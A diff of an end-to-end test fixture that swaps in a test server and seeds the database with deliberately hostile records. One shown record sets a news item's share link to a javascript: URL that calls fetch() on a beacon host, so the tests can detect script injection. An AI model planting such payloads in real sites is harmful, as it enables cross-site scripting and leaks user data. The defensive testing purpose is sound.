@@ -2,7 +2,7 @@ import Database from 'better-sqlite3';
 import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { startServer, type RunningServer } from '../server/src/server';
+import { startTestServer, type TestServer } from './test-server';
 import { test as base } from './fixtures';
 
 /** Where the hostile payloads try to report to; nothing listens there, the tests only watch for the request. */
@@ -84,13 +84,13 @@ function hostileSeed(dir: string): string {
 }
 
 /** Like `test` from fixtures.ts, but the worker's server database also holds the hostile records above. */
-export const test = base.extend<object, { server: RunningServer & { databasePath: string } }>({
+export const test = base.extend<object, { server: TestServer & { databasePath: string } }>({
   server: [
     async ({}, use) => {
       const dir = mkdtempSync(join(tmpdir(), 'sasuma-e2e-hostile-'));
       const distDir = process.env.E2E_DIST_DIR ?? 'dist';
       const databasePath = join(dir, 'test.db');
-      const server = await startServer({ port: 0, databasePath, distDir, seedDir: hostileSeed(dir) });
+      const server = await startTestServer({ port: 0, databasePath, distDir, seedDir: hostileSeed(dir) });
       const db = new Database(databasePath);
       db.prepare('UPDATE news SET twitter = ? WHERE name = ?').run(
         `javascript:fetch('${BEACON}?share')`,
